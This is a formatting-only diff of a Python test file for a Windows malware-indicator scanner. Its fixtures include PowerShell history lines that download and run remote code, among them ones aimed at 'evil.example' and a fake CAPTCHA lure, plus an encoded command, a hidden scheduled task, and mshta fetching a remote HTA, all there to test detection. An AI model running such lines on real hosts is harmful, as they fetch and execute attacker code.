@@ -21,8 +21,12 @@ RUN = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
 
 
 def ps(script: str, stdout: str, returncode: int = 0) -> dict:
-    return {"argv": ["powershell", "-NoProfile", "-NonInteractive", "-Command", script],
-            "returncode": returncode, "stdout": stdout, "stderr": ""}
+    return {
+        "argv": ["powershell", "-NoProfile", "-NonInteractive", "-Command", script],
+        "returncode": returncode,
+        "stdout": stdout,
+        "stderr": "",
+    }
 
 
 def win(**parts):  # type: ignore[no-untyped-def]
@@ -63,13 +67,15 @@ def test_typedpaths_filefix():
 
 def test_powershell_history():
     path = f"{APPDATA}/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
-    text = "\n".join([
-        "Get-ChildItem",
-        "irm https://get.scoop.sh | iex",  # allow-listed installer
-        "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a') # I am not a robot",
-        "irm https://evil.example/x | iex",
-        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
-    ])
+    text = "\n".join(
+        [
+            "Get-ChildItem",
+            "irm https://get.scoop.sh | iex",  # allow-listed installer
+            "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a') # I am not a robot",
+            "irm https://evil.example/x | iex",
+            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+        ]
+    )
     signs = scan(win(files={path: {"text": text}}))
     hits = {h.rule: h for h in signs.hits}
     assert {"win_pshistory_lure", "win_pshistory_download_exec", "win_pshistory_encoded"} <= set(hits)
@@ -85,17 +91,26 @@ def test_scoop_install_alone_is_not_flagged():
 
 
 def test_run_key_and_scheduled_task():
-    tasks = json.dumps([
-        {"p": "\\Updater", "e": "powershell.exe", "a": "-w hidden -enc SQBFAFgA"},
-        {"p": "\\GoogleUpdateTaskMachineUA", "e": "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
-         "a": "/ua"},
-    ])
+    tasks = json.dumps(
+        [
+            {"p": "\\Updater", "e": "powershell.exe", "a": "-w hidden -enc SQBFAFgA"},
+            {
+                "p": "\\GoogleUpdateTaskMachineUA",
+                "e": "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
+                "a": "/ua",
+            },
+        ]
+    )
     host = win(
-        registry={RUN: {"values": {
-            "OneDrive": '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
-            "Discord": "C:\\Users\\alice\\AppData\\Local\\Discord\\Update.exe --processStart Discord.exe",
-            "Tislam": "C:\\Users\\alice\\AppData\\Roaming\\Puola.exe",
-        }}},
+        registry={
+            RUN: {
+                "values": {
+                    "OneDrive": '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
+                    "Discord": "C:\\Users\\alice\\AppData\\Local\\Discord\\Update.exe --processStart Discord.exe",
+                    "Tislam": "C:\\Users\\alice\\AppData\\Roaming\\Puola.exe",
+                }
+            }
+        },
         commands=[ps(sources.SCHTASKS_PS, tasks)],
     )
     signs = scan(host)
@@ -109,34 +124,63 @@ def test_run_key_and_scheduled_task():
 
 def test_processes():
     procs = [
-        {"pid": 10, "name": "chrome.exe", "exe": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
-         "cmdline": ["chrome.exe", "--headless", "--remote-debugging-port=9223", "--user-data-dir=C:\\x"]},
-        {"pid": 11, "name": "chrome.exe", "exe": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
-         "cmdline": ["chrome.exe", "--type=renderer"]},
+        {
+            "pid": 10,
+            "name": "chrome.exe",
+            "exe": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+            "cmdline": ["chrome.exe", "--headless", "--remote-debugging-port=9223", "--user-data-dir=C:\\x"],
+        },
+        {
+            "pid": 11,
+            "name": "chrome.exe",
+            "exe": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+            "cmdline": ["chrome.exe", "--type=renderer"],
+        },
         {"pid": 12, "name": "a1b2.exe", "exe": "C:\\Users\\alice\\AppData\\Local\\Temp\\x7\\a1b2.exe", "cmdline": []},
-        {"pid": 13, "name": "mshta.exe", "exe": "C:\\Windows\\System32\\mshta.exe",
-         "cmdline": ["mshta.exe", "https://bad.example/p.hta"]},
-        {"pid": 14, "name": "msedge.exe", "exe": "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
-         "cmdline": ["msedge.exe", "--load-extension=C:\\Users\\alice\\AppData\\Local\\Temp\\ext"]},
+        {
+            "pid": 13,
+            "name": "mshta.exe",
+            "exe": "C:\\Windows\\System32\\mshta.exe",
+            "cmdline": ["mshta.exe", "https://bad.example/p.hta"],
+        },
+        {
+            "pid": 14,
+            "name": "msedge.exe",
+            "exe": "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
+            "cmdline": ["msedge.exe", "--load-extension=C:\\Users\\alice\\AppData\\Local\\Temp\\ext"],
+        },
         {"pid": 16, "name": "Setup.exe", "exe": "C:\\Users\\alice\\Downloads\\Setup.exe", "cmdline": []},
-        {"pid": 15, "name": "Teams.exe",
-         "exe": "C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "cmdline": []},
+        {
+            "pid": 15,
+            "name": "Teams.exe",
+            "exe": "C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
+            "cmdline": [],
+        },
     ]
     signs = scan(win(processes=procs))
-    assert {"browser_headless_debug", "win_process_user_path", "win_script_host_url",
-            "browser_load_extension", "process_from_downloads"} <= rules_hit(signs)
+    assert {
+        "browser_headless_debug",
+        "win_process_user_path",
+        "win_script_host_url",
+        "browser_load_extension",
+        "process_from_downloads",
+    } <= rules_hit(signs)
     assert not any("Teams" in h.where for h in signs.hits)
     assert all(note_text(h.detail, "fr").startswith("processus n° ") for h in signs.hits)
 
 
 def test_defender_detections():
     data = {
-        "t": [{"ThreatID": 1, "ThreatName": "Trojan:Win32/Lumma.RPX!MTB"},
-              {"ThreatID": 2, "ThreatName": "PWS:Win32/RedLine"},
-              {"ThreatID": 3, "ThreatName": "PUA:Win32/Presenoker"}],
-        "d": [{"ThreatID": 1, "InitialDetectionTime": "/Date(1795000000000)/", "ActionSuccess": False},
-              {"ThreatID": 2, "InitialDetectionTime": "2026-11-20T10:00:00Z", "ActionSuccess": True},
-              {"ThreatID": 3, "InitialDetectionTime": "/Date(1795000000000)/", "ActionSuccess": True}],
+        "t": [
+            {"ThreatID": 1, "ThreatName": "Trojan:Win32/Lumma.RPX!MTB"},
+            {"ThreatID": 2, "ThreatName": "PWS:Win32/RedLine"},
+            {"ThreatID": 3, "ThreatName": "PUA:Win32/Presenoker"},
+        ],
+        "d": [
+            {"ThreatID": 1, "InitialDetectionTime": "/Date(1795000000000)/", "ActionSuccess": False},
+            {"ThreatID": 2, "InitialDetectionTime": "2026-11-20T10:00:00Z", "ActionSuccess": True},
+            {"ThreatID": 3, "InitialDetectionTime": "/Date(1795000000000)/", "ActionSuccess": True},
+        ],
     }
     signs = scan(win(commands=[ps(sources.DEFENDER_PS, json.dumps(data))]))
     strengths = sorted(h.strength for h in signs.hits if h.rule == "defender_stealer")
@@ -145,8 +189,10 @@ def test_defender_detections():
 
 
 def test_defender_old_detection_ignored():
-    data = {"t": {"ThreatID": 1, "ThreatName": "Trojan:Win32/Lumma"},
-            "d": {"ThreatID": 1, "InitialDetectionTime": "/Date(1600000000000)/", "ActionSuccess": False}}
+    data = {
+        "t": {"ThreatID": 1, "ThreatName": "Trojan:Win32/Lumma"},
+        "d": {"ThreatID": 1, "InitialDetectionTime": "/Date(1600000000000)/", "ActionSuccess": False},
+    }
     signs = scan(win(commands=[ps(sources.DEFENDER_PS, json.dumps(data))]))
     assert not signs.hits
 
@@ -187,8 +233,15 @@ def test_tree_drops(tmp_path):
     put(tmp_path, f"{HOME}/Downloads/Adobe_Crack_Full_Setup.zip", zip_bytes(["setup.exe"]))
     put(tmp_path, "C:/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/go.bat")
     signs = scan(TreeHost(tmp_path, "windows"))
-    assert {"win_nss_dll_set", "win_exe_in_root", "win_exe_in_public", "win_autoit_script", "win_temp_script",
-            "crack_download", "win_startup_script"} <= rules_hit(signs)
+    assert {
+        "win_nss_dll_set",
+        "win_exe_in_root",
+        "win_exe_in_public",
+        "win_autoit_script",
+        "win_temp_script",
+        "crack_download",
+        "win_startup_script",
+    } <= rules_hit(signs)
     assert scoring.level(signs.hits) == "red"
 
 
@@ -235,9 +288,15 @@ def test_clean_windows_tree_is_not_red(tmp_path):
     put(tmp_path, f"{HOME}/Desktop/Mediboard.lnk")
     put(tmp_path, f"{TEMP}/{{8A2B}}/setup.msi")
     put(tmp_path, f"{APPDATA}/Microsoft/Windows/Start Menu/Programs/Startup/OneNote.lnk")
-    procs = (ProcessInfo(pid=1, name="firefox.exe", exe=f"{ff}/firefox.exe"),
-             ProcessInfo(pid=2, name="chrome.exe", exe="C:/Program Files/Google/Chrome/Application/chrome.exe",
-                         cmdline=("chrome.exe", "--type=gpu-process")))
+    procs = (
+        ProcessInfo(pid=1, name="firefox.exe", exe=f"{ff}/firefox.exe"),
+        ProcessInfo(
+            pid=2,
+            name="chrome.exe",
+            exe="C:/Program Files/Google/Chrome/Application/chrome.exe",
+            cmdline=("chrome.exe", "--type=gpu-process"),
+        ),
+    )
     signs = scan(TreeHost(tmp_path, "windows", processes=procs))
     assert signs.hits == ()
     assert signs.scan.files >= 10
